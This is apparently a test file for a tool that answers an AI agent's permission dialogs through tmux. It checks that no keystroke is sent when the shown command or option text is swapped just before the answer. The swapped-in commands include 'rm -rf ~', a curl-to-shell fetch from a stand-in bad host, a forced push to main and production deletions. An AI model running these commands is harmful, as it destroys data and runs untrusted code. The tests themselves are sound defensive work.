/** Another request, or other options, take the place of those that were looked at, at each step of a send. */
import {mkdtempSync, readFileSync, rmSync, writeFileSync} from 'node:fs';
import {tmpdir} from 'node:os';
import {join} from 'node:path';
import {describe, expect, onTestFinished, test} from 'vitest';
import type {Choice} from '../../../src/core/ask/option-role.js';
import type {RunTmux} from '../../../src/core/machine/machine.js';
import type {Receipt} from '../../../src/core/receipt.js';
import {sendAnswer} from '../../../src/deliver/send.js';
import {localMachine} from '../../../src/observe/local-machine.js';
import {lookOnce} from '../../../src/observe/once.js';
import {tmuxBatch} from '../../../src/tmux/run.js';
import {startStandIn} from '../../helpers/agent/stand-in.js';
import {openDesk} from '../../helpers/desk.js';
import {some, times} from '../../helpers/size.js';
import {waitFor} from '../../helpers/wait-for.js';

const size = {columns: 250, rows: 50} as const;

const drawn = new Map<string, string>();

/** The dialog of a command, as the agent draws it. */
function dialogOf(command: string): string {
	const screen = drawn.get(command) ?? drawDialog(command);
	drawn.set(command, screen);
	return screen;
}

function drawDialog(command: string): string {
	const steps = [{do: 'tool', tool: 'Bash', input: {command, description: 'Do it'}, ms: 300, asks: true}] as const;
	const driver = startStandIn({opening: {prompt: 'go', steps}});
	driver.pass(3000);
	return driver.screen(size.columns, size.rows);
}

type Swapped = {
	readonly command: string;
	readonly screen: string;
	/** Undefined: nothing changes. */
	readonly other: string | undefined;
	/** The call of tmux before which the screen changes; undefined: the one that writes the key. */
	readonly call?: number;
	readonly choice?: Choice;
	/** What the agent prints all the time; undefined: it is silent. */
	readonly blinks?: string;
};

type Result = {readonly receipt: Receipt; readonly keys: string};

async function answerSwapped({command, screen, other, call, choice = {kind: 'yes'}, blinks}: Swapped): Promise<Result> {
	const desk = await openDesk(1);
	const folder = mkdtempSync(join(tmpdir(), 'beckon-swapped-'));
	onTestFinished(() => rmSync(folder, {recursive: true}));
	const file = join(folder, 'keys');
	await desk.tmux('resize-window', '-t', '%1', '-x', `${size.columns}`, '-y', `${size.rows}`);
	await desk.tmux('respawn-pane', '-k', '-t', '%1', `stty raw -echo opost onlcr; exec cat >'${file}'`);
	await desk.runs('%1', 'cat');
	const tty = (await desk.tmux('display-message', '-p', '-t', '%1', '#{pane_tty}')).trim();
	const draw = async (text: string): Promise<void> => {
		const mark = `drawn${Math.random().toString(36).slice(2)}`;
		writeFileSync(tty, `\u001b[?25l\u001b[H\u001b[2J${text}\u001b]2;${mark}\u0007`);
		await waitFor(async () => (await desk.tmux('display-message', '-p', '-t', '%1', '#{pane_title}')).trim() === mark);
	};
	await desk.fire('%1', 'SessionStart', {source: 'startup'});
	await desk.fire('%1', 'UserPromptSubmit', {prompt: 'do it'});
	await desk.fire('%1', 'PermissionRequest', {tool_name: 'Bash', tool_input: {command, description: 'Do it'}});
	await draw(screen);
	const {io} = await desk.io();
	const row = await waitFor(async () =>
		(await lookOnce(io)).rows.find(({state: {context}}) => context.kind === 'blocked' && context.options.length > 0),
	);
	if (blinks !== undefined) {
		const timer = setInterval(() => writeFileSync(tty, blinks), 50);
		onTestFinished(() => clearInterval(timer));
	}
	let calls = 0;
	const run: RunTmux = async (socket, commands, options) => {
		calls += 1;
		const isKey = JSON.stringify([commands, options?.input]).includes('send-keys');
		if (other !== undefined && (call === undefined ? isKey : calls === call)) await draw(other);
		return tmuxBatch(socket, commands, options);
	};
	const machine = localMachine(io.env, run);
	const {receipt} = await sendAnswer({...io, machine}, row, {choice, token: row.token ?? ''});
	return {receipt, keys: readFileSync(file, 'utf8')};
}

const lines = (last: string): string => [...Array.from({length: 13}, (_, index) => `echo step ${index}`), last].join('\n');

const pairs: readonly (readonly [string, string])[] = [
	['cd /home/me/projects/api && npm test', 'cd /home/me/projects/api && rm -rf ~'],
	[lines('echo done'), lines('rm -rf build')],
	['echo "größer 日本" > ~/a', 'echo "größer 日本" > ~/b'],
	[`printf '%s' '#{x}[a]*?$^|();' # ${'x'.repeat(170)}1`, `printf '%s' '#{x}[a]*?$^|();' # ${'x'.repeat(170)}2`],
	['make\ncd sub\nmake', 'make\ncd sub\ncd sub'],
	['make\n\nmake install', 'make\nmake\nmake install'],
	['ls', 'ls -la'],
];

/** A word or two differ, as in the first pair. */
const more: typeof pairs = [
	['git push origin feature/login-page', 'git push origin feature/../main --force'],
	['sudo systemctl restart nginx-staging', 'sudo systemctl restart postgres-production'],
	['curl -fsSL https://get.example.com/install.sh | sh', 'curl -fsSL https://bad.example.net/install.sh | sh'],
	['kubectl --context dev delete deployment api', 'kubectl --context prod delete deployment api'],
	['sed -i s/a/b/ config/dev.yml', 'sed -i s/a/b/ config/prod.yml'],
	['npm test', 'npm publish'],
];

describe('a request that took the place of another right before the key', () => {
	test.each([...pairs, ...more.slice(0, times(0, more.length))])('gets none: %j → %j', async (command, other) => {
		const {receipt, keys} = await answerSwapped({command, screen: dialogOf(command), other: dialogOf(other)});
		expect(receipt).toMatchObject({kind: 'refused'});
		expect(keys).toBe('');
	});

	test.each([1, 2, 3])('gets none at call %i of tmux: the third writes', async (call) => {
		const [command, other] = pairs[0] ?? ['', ''];
		const {receipt, keys} = await answerSwapped({command, screen: dialogOf(command), other: dialogOf(other), call});
		expect([receipt.kind, keys]).toEqual(['refused', '']);
	});
});

test.each(some(['make\ncd sub\nmake', 'npm test', lines('echo done')], 1))('a request that stays gets its key: %j', async (command) => {
	const {keys} = await answerSwapped({command, screen: dialogOf(command), other: undefined});
	expect(keys).toBe('1');
});

// As the fullscreen client does with the dot of its last row of text (2.1.330).
describe('while the agent prints beside its dialog', () => {
	const blinks = '\u001b7\u001b[H \u001b8';
	test.each(['make\ncd sub\nmake', 'touch a\n\ntouch b\ntouch b\n\ntouch c'])('equal and blank rows are compared: %j', async (command) => {
		const {keys} = await answerSwapped({command, screen: dialogOf(command), other: undefined, blinks});
		expect(keys).toBe('1');
	});

	test.each([
		['make\ncd sub\nmake', 'make\ncd sub\ncd sub'],
		['make\n\nmake install', 'make\nmake\nmake install'],
	])('another request gets no key: %j → %j', async (command, other) => {
		const {receipt, keys} = await answerSwapped({command, screen: dialogOf(command), other: dialogOf(other), blinks});
		expect(receipt).toMatchObject({kind: 'refused'});
		expect(keys).toBe('');
	});
});

describe('an option that has other words', () => {
	const command = 'ls *';
	const screen = dialogOf(command);
	const options = screen.split('\n').filter((row) => /^ *(?:❯ )?\d\. /.test(row.replace(/\u001b\[[\d;]*m/g, '')));

	test.each(options.map((row, index) => [index + 1, row] as const))('gets no key for its number: %i', async (number, row) => {
		expect(options.length).toBeGreaterThan(2);
		const changed = screen.replace(row, `${row.trimEnd()}: * and bypass permissions`);
		const choice: Choice = {kind: 'options', numbers: [number], text: undefined};
		const {receipt, keys} = await answerSwapped({command, screen, other: changed, choice});
		expect(receipt).toMatchObject({kind: 'refused'});
		expect(keys).toBe('');
	});
});
